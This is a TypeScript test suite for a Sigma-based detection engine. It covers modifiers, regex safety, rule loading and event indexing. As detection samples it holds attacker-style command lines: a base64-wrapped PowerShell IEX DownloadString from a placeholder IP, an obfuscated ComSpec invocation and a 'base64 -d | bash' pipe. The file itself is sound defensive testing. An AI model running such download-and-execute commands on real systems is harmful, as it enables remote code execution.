/**
 * SigmaHQ coverage: logsource categories (Sysmon, Security 4688 with renamed fields), the
 * modifiers SigmaHQ's rules use (windash, base64offset, fieldref, cased, |all on keywords), the
 * regex guard on bounded repetition, recursive rules.sigma_dirs with status/level filters,
 * per-field-values grouping of plain rules, skip reasons counted, and the channel/EventID/value
 * index never hiding a match. Rules and samples: test/fixtures/sigmahq (SigmaHQ, DRL 1.1).
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'yaml';
import type { LogEvent } from '../../alert-service/src/generated/schema-types.js';
import { classifyRecord, normalizeRecord } from '../../alert-service/src/normalize/index.js';
import { compileSigmaDocuments, listSigmaTree, readSigmaFiles, skippedLine, skipSummary } from '../../alert-service/src/detect/sigma/load.js';
import { base64offset, windash } from '../../alert-service/src/detect/sigma/modifiers.js';
import { compileSafeRegex, unsafeRegexReason } from '../../alert-service/src/detect/safe-regex.js';
import { loadRuleSet } from '../../alert-service/src/detect/ruleset.js';
import { runDetection } from '../../alert-service/src/detect/run.js';
import { DetectionEngine, DEFAULT_LIMITS } from '../../alert-service/src/detect/engine.js';
import { rulesReport, rulesText } from '../../alert-service/src/cli/commands/rules.js';
import type { CompiledRule } from '../../alert-service/src/detect/compiled.js';
import { config, rulesConfig, CollectSink, ManualClock } from './helpers.js';
import { FIXTURES } from '../helpers/paths.js';

const SIGMAHQ = join(FIXTURES, 'sigmahq');
const RULES = join(SIGMAHQ, 'rules');
const ID = {
  regQuery: '0022869c-49f7-4ff2-ba03-85ac42ddac58',
  crossUser: 'd2b7a134-9c3e-4f8a-b56d-e0c1f8a29b47',
  explicitCred: 'e3c6d245-7b8f-4e2a-c17f-a9d0e5b38f62',
  base64Iex: '88f680b8-070e-402c-ae11-d2914f2257f1',
  iexServices: 'fd0f5778-d3cb-4c9a-9695-66759d04702a',
  defender: '57b649ef-ff42-4fb0-8bf6-62da243a1708',
  exchangeExport: '516376b4-05cd-4122-bae0-ad7641c38d48',
  amsi: '7dbbcac2-57a0-45ac-b306-ff30a8bd2981',
  bitlocker: '7f2376f9-42ee-4dfc-9360-fecff9a88fc8',
  lnxBase64: 'ba592c6d-6888-43c3-b8c6-689b8fe47337',
  auditdAudio: 'a7af2487-9c2f-42e4-9bb9-ff961f0561d5',
  auditdCompressed: 'a3b5e3e9-1b49-4119-8b8e-0344a01f21ee',
  auditdConfig: '977ef627-4539-4875-adf4-ed8f780c4922',
  auditdScanning: '3761e026-f259-44e6-8826-719ed8079408',
};

type Rec = Record<string, unknown>;
const sample = (id: string): Rec[] => JSON.parse(readFileSync(join(SIGMAHQ, 'regression', `${id}.json`), 'utf8')) as Rec[];

/** Agent records through the service normalizer, as ingest does. */
function normalize(records: Rec[]): LogEvent[] {
  return records.map((r) => normalizeRecord(r, classifyRecord(r)!, { receivedAt: new Date('2026-12-01T09:00:00Z') }, config.normalize));
}

let fixtureRules: { rules: CompiledRule[]; skipped: ReturnType<typeof compileSigmaDocuments>['skipped'] } | undefined;
function allFixtureRules() {
  fixtureRules ??= compileSigmaDocuments(readSigmaFiles(listSigmaTree(RULES), RULES), { defaultQuietSec: 900 });
  return fixtureRules;
}
function ruleById(id: string): CompiledRule {
  const r = allFixtureRules().rules.find((x) => x.id === id);
  assert.ok(r, `rule ${id} did not load: ${JSON.stringify(allFixtureRules().skipped)}`);
  return r;
}

/** Engine with the channel/EventID/value index, the way the service runs rules. */
function fire(rules: CompiledRule[], events: LogEvent[]) {
  const sink = new CollectSink();
  new DetectionEngine(rules, sink, new ManualClock(Date.UTC(2030, 0, 1)), DEFAULT_LIMITS).process(events);
  return sink.signals;
}

/** The same process as Security 4688 writes it (template of the Security-Auditing provider). */
function as4688(sysmon: Rec): Rec {
  const d = sysmon.EventData as Rec;
  const data = {
    SubjectUserSid: 'S-1-5-21-1004336348-1177238915-682003330-500', SubjectUserName: 'Administrator', SubjectDomainName: 'ATTACKRANGE', SubjectLogonId: d.LogonId,
    NewProcessId: `0x${Number(d.ProcessId).toString(16)}`, NewProcessName: d.Image, TokenElevationType: '%%1937', ProcessId: `0x${Number(d.ParentProcessId).toString(16)}`,
    CommandLine: d.CommandLine, TargetUserSid: 'S-1-0-0', TargetUserName: '-', TargetDomainName: '-', TargetLogonId: '0x0', ParentProcessName: d.ParentImage, MandatoryLabel: 'S-1-16-12288',
  };
  return {
    ...sysmon, ProviderName: 'Microsoft-Windows-Security-Auditing', ProviderGuid: '{54849625-5478-4994-A5BA-3E3B0328C30D}', EventID: 4688, Version: 2, Level: 0, Task: 13312,
    Keywords: '0x8020000000000000', Channel: 'Security', UserID: '', EventData: data, StringInserts: Object.values(data),
  };
}

test('process_creation maps onto Sysmon 1 as written and onto Security 4688 with Image/ParentImage renamed', () => {
  const rule = ruleById(ID.regQuery);
  assert.deepEqual([...rule.channels!].sort(), ['microsoft-windows-sysmon/operational', 'security']);
  assert.deepEqual([...rule.eventIds!].sort((a, b) => a - b), [1, 4688]);
  const [sysmon] = sample(ID.regQuery);
  const [s1, s4688] = normalize([sysmon!, as4688(sysmon!)]);
  for (const e of [s1!, s4688!]) {
    const signals = fire([rule], [e]);
    assert.equal(signals.length, 1, e.source.channel);
    // Alert fields carry the Sigma names, read through the channel's field mapping.
    assert.deepEqual((signals[0]!.fields as Record<string, unknown>).Image, ['C:\\Windows\\System32\\reg.exe']);
    assert.equal(signals[0]!.group.Image, 'C:\\Windows\\System32\\reg.exe');
    assert.equal(signals[0]!.severity, 'low'); // level → severity
  }
  // Other EventIDs of either channel, and a 4688 for another program, do not fire.
  const other = normalize([{ ...sysmon!, EventID: 5 }, as4688({ ...sysmon!, EventData: { ...(sysmon!.EventData as Rec), Image: 'C:\\Windows\\System32\\whoami.exe' } })]);
  assert.equal(fire([rule], other).length, 0);
});

test('windash: -v also matches /v and the Unicode dashes; the regression sample writes "/v"', () => {
  assert.deepEqual(windash('-v'), ['-v', '/v', '\u2013v', '\u2014v', '\u2015v']);
  assert.deepEqual(windash('a-b'), ['a-b']); // inside a word: not a flag
  assert.equal(windash('-a -b').length, 25);
  const rule = ruleById(ID.regQuery);
  const [sysmon] = sample(ID.regQuery);
  assert.match(String((sysmon!.EventData as Rec).CommandLine), /\/v /);
  const withDash = (cli: string) => normalize([{ ...sysmon!, EventData: { ...(sysmon!.EventData as Rec), CommandLine: cli } }]);
  const base = 'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion" ';
  assert.equal(fire([rule], withDash(base + '/v CurrentBuildNumber')).length, 1);
  assert.equal(fire([rule], withDash(base + '\u2013v CurrentBuildNumber')).length, 1);
  assert.equal(fire([rule], withDash(base + 'CurrentBuildNumber')).length, 0);
});

test('base64offset: the value found at each of the three alignments inside base64 text; wide encodes UTF-16LE first', () => {
  assert.deepEqual(base64offset('IEX (New', false), ['SUVYIChOZX', 'lFWCAoTmV3', 'JRVggKE5ld']);
  const text = 'IEX (New-Object Net.WebClient).DownloadString("http://x")';
  for (const pad of ['', 'a', 'ab']) {
    const enc = Buffer.from(pad + text).toString('base64');
    assert.ok(base64offset('IEX (New', false).some((v) => enc.includes(v)), pad);
    const wide = Buffer.from(pad + text, 'utf16le').toString('base64');
    assert.ok(base64offset('IEX (New', true).some((v) => wide.includes(v)), `wide ${pad}`);
  }
  const rule = ruleById(ID.base64Iex);
  const [sysmon] = sample(ID.regQuery);
  const cli = (c: string) => normalize([{ ...sysmon!, EventData: { ...(sysmon!.EventData as Rec), Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', CommandLine: c } }]);
  const payload = Buffer.from('$x=1;IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.9/a")').toString('base64');
  assert.equal(fire([rule], cli(`powershell.exe -nop -c "[Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('${payload}'))"`)).length, 1);
  assert.equal(fire([rule], cli(`powershell.exe -enc ${Buffer.from('Get-Date').toString('base64')}`)).length, 0);
});

test('fieldref: a field compared with another field of the same event (SigmaHQ cross-user spawn and explicit-credential rules)', () => {
  const cross = ruleById(ID.crossUser);
  const [spawn] = sample(ID.crossUser);
  assert.equal(fire([cross], normalize([spawn!])).length, 1); // User testuser, ParentUser xodih
  const same = { ...spawn!, EventData: { ...(spawn!.EventData as Rec), User: 'SWACHCHHANDA\\XODIH' } }; // same user, other case
  assert.equal(fire([cross], normalize([same])).length, 0);

  const cred = ruleById(ID.explicitCred);
  const [logon] = sample(ID.explicitCred);
  assert.equal(fire([cred], normalize([logon!])).length, 1);
  const d = logon!.EventData as Rec;
  assert.equal(fire([cred], normalize([{ ...logon!, EventData: { ...d, TargetUserName: d.SubjectUserName } }])).length, 0);
});

test('cased and |all on keyword lists; keywords search the EventData values of Windows events', () => {
  const rule = ruleById(ID.exchangeExport);
  const exch = (cmd: string): LogEvent[] =>
    normalize([{ ProviderName: 'MSExchange CmdletLogs', EventID: 1, Level: 4, EventRecordID: 7701, ProcessID: 4120, ThreadID: 5512, Keywords: '0x80000000000000', TimeCreated: '2026-11-21 10:00:00 +0000', Channel: 'MSExchange Management', Computer: 'ex01.corp.local', Message: '', EventData: { Cmdlet: cmd }, hostname: 'ex01', source_kind: 'windows' }]);
  assert.equal(fire([rule], exch('New-ManagementRoleAssignment -Role "Mailbox Import Export" -User mallory')).length, 1);
  assert.equal(fire([rule], exch('New-ManagementRoleAssignment -Role "Mailbox Import Export"')).length, 0); // |all: -User missing
  const compile = (det: string) => compileSigmaDocuments([{ file: 't.yml', doc: parse(`title: t\nlogsource: {product: windows, service: security}\ndetection:\n${det}`) as Rec }], { defaultQuietSec: 900 });
  const [logon] = normalize(sample(ID.explicitCred));
  const user = String(logon!.fields.event_data!.SubjectUserName);
  assert.equal(fire(compile(`  k:\n    '|all|cased': ['${user}', 'localhost']\n  condition: k`).rules, [logon!]).length, 1);
  assert.equal(fire(compile(`  k:\n    '|all|cased': ['${user.toUpperCase()}', 'localhost']\n  condition: k`).rules, [logon!]).length, user === user.toUpperCase() ? 1 : 0);
  assert.equal(fire(compile(`  k:\n    '|all': ['${user.toUpperCase()}', 'LOCALHOST']\n  condition: k`).rules, [logon!]).length, 1);
  assert.equal(fire(compile(`  k:\n    TargetServerName|cased: LOCALHOST\n  condition: k`).rules, [logon!]).length, 0);
});

test('the regex guard accepts bounded repetition it can unroll and refuses exponential patterns', () => {
  assert.equal(unsafeRegexReason('\\$env:ComSpec\\[(\\s*\\d{1,3}\\s*,){2}'), null);
  assert.equal(unsafeRegexReason('https?://(?:0[0-9]{1,11}\\.){3}0[0-9]{1,11}'), null);
  assert.equal(unsafeRegexReason('"(?:\\{\\d\\})+"\\s*-f'), null); // (?: is a group, not a quantifier
  for (const bad of ['(a+)+$', '(a|aa)*b', '(.*x)*y', '(?:.*\\)){1,}', '((a+){2})+', '(\\s*\\d+){100}']) assert.match(unsafeRegexReason(bad) ?? '', /nested quantifier/, bad);
  const re = compileSafeRegex('\\$env:ComSpec\\[(\\s*\\d{1,3}\\s*,){2}');
  assert.ok(re.test('&( $env:ComSpec[4,24,25]-join"")'));
  const started = performance.now();
  assert.ok(!re.test('$env:ComSpec[' + ' 1,'.repeat(1) + ' '.repeat(8000)));
  assert.ok(performance.now() - started < 1000);
  // SigmaHQ's Security 4697 rule with that pattern loads and fires on an obfuscated service.
  const rule = ruleById(ID.iexServices);
  const [logon] = sample(ID.explicitCred);
  const svc = (file: string) => normalize([{ ...logon!, EventID: 4697, EventData: { SubjectUserName: 'mallory', ServiceName: 'updsvc', ServiceFileName: file, ServiceType: '0x10', ServiceStartType: 3, ServiceAccount: 'LocalSystem' } }]);
  assert.equal(fire([rule], svc('cmd /c "&( $env:ComSpec[4,24,25]-join\'\')(New-Object Net.WebClient)"')).length, 1);
  assert.equal(fire([rule], svc('C:\\Program Files\\Vendor\\svc.exe')).length, 0);
});

test('plain rules group by host plus the values their selection tested: five Defender threats on one host are five alerts', () => {
  const rule = ruleById(ID.defender);
  assert.deepEqual(rule.fire.groupBy, ['host', 'Threat Name', 'Path']);
  const [template] = sample('a7c3e5f2-8b1d-4e9a-b6c2-3d7f5e8a9b4c');
  const threat = (i: number, name: string, eventId = 1116) => ({
    ...template!, EventID: eventId, TimeCreated: `2026-04-17 04:1${i}:00 +0000`,
    EventData: { ...(template!.EventData as Rec), 'Threat Name': name, Path: `file:_C:\\Users\\xodih\\Downloads\\${name.replace(/\W/g, '_')}.exe` },
  });
  const names = ['Trojan:Win32/Emotet', 'HackTool:Win32/Mimikatz', 'Backdoor:Win32/CobaltStrike', 'Ransom:Win32/LockBit', 'Tool:Win32/EICAR_Test_File'];
  const events = normalize([...names.map((n, i) => threat(i, n)), threat(6, names[0]!, 1117)]); // 1117: the action on the first threat
  const signals = fire([rule], events);
  assert.equal(signals.length, 5);
  assert.deepEqual(signals.map((s) => s.group['Threat Name']).sort(), [...names].sort());
  assert.ok(signals.every((s) => s.group.host === signals[0]!.group.host && s.severity === 'high'));
  // A second host: its own alert for the same threat.
  const other = normalize([{ ...threat(0, names[0]!), Computer: 'ws02.attackrange.local', hostname: 'ws02' }]);
  assert.equal(fire([rule], [...events, ...other]).length, 6);
});

test('rules.sigma_dirs loads a checkout recursively, filters by status and level, and reports skips with reason counts', async () => {
  const cfg = (over: Partial<ReturnType<typeof rulesConfig>>) => rulesConfig({ sigma_dir: '', sigma_dirs: [RULES], ...over });
  const sigmaIds = (set: Awaited<ReturnType<typeof loadRuleSet>>) => set.rules.filter((r) => r.source === 'sigma').map((r) => r.id).sort();

  const all = await loadRuleSet(cfg({ sigma_status: ['stable', 'test', 'experimental'], sigma_min_level: 'informational' }));
  assert.deepEqual(sigmaIds(all), Object.values(ID).sort());
  const unsupported = all.skipped.filter((s) => s.kind === 'unsupported');
  // auditd rules load since the agent tails /var/log/audit/audit.log (sigma-auditd.test.ts).
  assert.deepEqual(unsupported.map((s) => s.file.split('/').pop()).sort(), ['file_access_win_susp_credhist.yml']);

  // Defaults: stable + test, medium and above.
  const dflt = await loadRuleSet(cfg({}));
  assert.deepEqual(sigmaIds(dflt), [ID.base64Iex, ID.defender, ID.exchangeExport, ID.iexServices, ID.lnxBase64, ID.auditdConfig].sort());
  const counts = skipSummary(dflt.skipped);
  assert.deepEqual(counts.filter((c) => c.kind === 'filtered'), [
    { reason: 'level low below rules.sigma_min_level', kind: 'filtered', count: 4 },
    { reason: 'status experimental not in rules.sigma_status', kind: 'filtered', count: 4 },
  ]);
  assert.equal(counts.filter((c) => c.kind === 'unsupported').reduce((n, c) => n + c.count, 0), 1);
  assert.equal(skippedLine(dflt.skipped), '1 Sigma rules skipped (1× logsource windows category file_access needs the Microsoft-Windows-Kernel-File ETW provider, which is not an event log channel), 8 filtered out by rules.sigma_status / sigma_min_level');

  const report = rulesReport(dflt, true);
  assert.equal(report.skipped_total, 1);
  assert.equal(report.filtered_total, 8);
  assert.equal(report.skipped!.length, 9);
  const text = rulesText(report);
  assert.match(text, /1 Sigma rules skipped \(unsupported\):\n\s+1 {2}logsource windows category file_access/);
  assert.match(text, /8 Sigma rules filtered out/);
});

test('Linux process_creation runs on Sysmon for Linux events, which arrive in syslog as XML (ident sysmon)', async () => {
  const rule = ruleById(ID.lnxBase64);
  assert.deepEqual([...rule.programs!], ['sysmon']);
  const { lines } = await import('./helpers.js');
  const event = (eventId: number, cmd: string) =>
    `Nov 21 10:00:05 web1 sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>${eventId}</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2026-11-21T10:00:05.123456000Z"/><EventRecordID>4711</EventRecordID><Correlation/><Execution ProcessID="812" ThreadID="812"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web1</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2026-11-21 10:00:05.120</Data><Data Name="ProcessGuid">{4d3f1a2b-0000-0000-0000-000000000000}</Data><Data Name="ProcessId">9120</Data><Data Name="Image">/usr/bin/bash</Data><Data Name="FileVersion">-</Data><Data Name="CommandLine">${cmd}</Data><Data Name="CurrentDirectory">/tmp</Data><Data Name="User">www-data</Data><Data Name="ParentImage">/usr/sbin/apache2</Data></EventData></Event>`;
  const evs = lines('syslog', [
    event(1, 'bash -c echo ZWNobyBwd25lZA== | base64 -d | bash &amp;&amp; true'), // XML-escaped &&
    event(1, 'base64 -d /tmp/notes.txt'),
    event(5, 'bash -c echo ZWNobyBwd25lZA== | base64 -d | bash'), // process terminated, not created
  ]);
  const signals = fire([rule], evs);
  assert.equal(signals.length, 1);
  assert.deepEqual((signals[0]!.fields as Record<string, unknown>).CommandLine, ['bash -c echo ZWNobyBwd25lZA== | base64 -d | bash && true']);
  assert.equal(signals[0]!.severity, 'medium');
});

test('skip reasons fold rule-specific details into classes for counting', () => {
  const docs = ['a', 'b', 'c'].map((f, i) => ({
    file: `${f}.yml`,
    doc: parse(`title: ${f}\nlogsource: {product: windows, service: security}\ndetection:\n  sel:\n    Field${i}|expand: '%x%'\n  condition: sel`) as Rec,
  }));
  docs.push({ file: 'd.yml', doc: parse("title: d\nlogsource: {product: windows, service: security}\ndetection:\n  sel:\n    CommandLine|re: '(a+)+'\n  condition: sel") as Rec });
  docs.push({ file: 'e.yml', doc: parse("title: e\nlogsource: {product: windows, service: security}\ndetection:\n  sel:\n    Other|re: '(b*)*'\n  condition: sel") as Rec });
  const { skipped } = compileSigmaDocuments(docs, { defaultQuietSec: 900 });
  assert.deepEqual(skipSummary(skipped).map(({ reason, count }) => [reason, count]), [
    ['modifier |expand is not supported', 3],
    ['regex rejected: nested quantifier can backtrack exponentially', 2],
  ]);
});

test('the channel/EventID/value index never hides a match: every rule that matches an event is a candidate', () => {
  const { rules } = allFixtureRules();
  assert.ok(rules.filter((r) => r.prefilter).length >= 8);
  const events = normalize([...sample(ID.regQuery), ...sample(ID.crossUser), ...sample(ID.explicitCred), as4688(sample(ID.regQuery)[0]!)]);
  for (const e of events) {
    // Without the index: each rule checked on its own (scope + detection).
    const expected = rules.filter((r) => (!r.kinds || r.kinds.has(e.source.kind)) && (!r.channels || r.channels.has(e.source.channel!.toLowerCase())) && (!r.eventIds || r.eventIds.has(e.fields.event_id!)) && r.evaluate(e)).map((r) => r.id);
    const got = fire(rules, [e]).map((s) => s.rule_id);
    assert.deepEqual(got.sort(), expected.sort(), `${e.source.channel} ${e.fields.event_id}`);
    assert.ok(expected.length >= 1);
  }
  // runDetection (test-rule, analyze) goes through the same engine; the 4688 copy of the reg query
  // falls into the Sysmon event's group (same host, Image, CommandLine) and its quiet period.
  assert.deepEqual(runDetection(events, rules).signals.map((s) => s.rule_id).sort(), fire(rules, events).map((s) => s.rule_id).sort());
  assert.equal(fire(rules, events).length, events.length - 1);
});
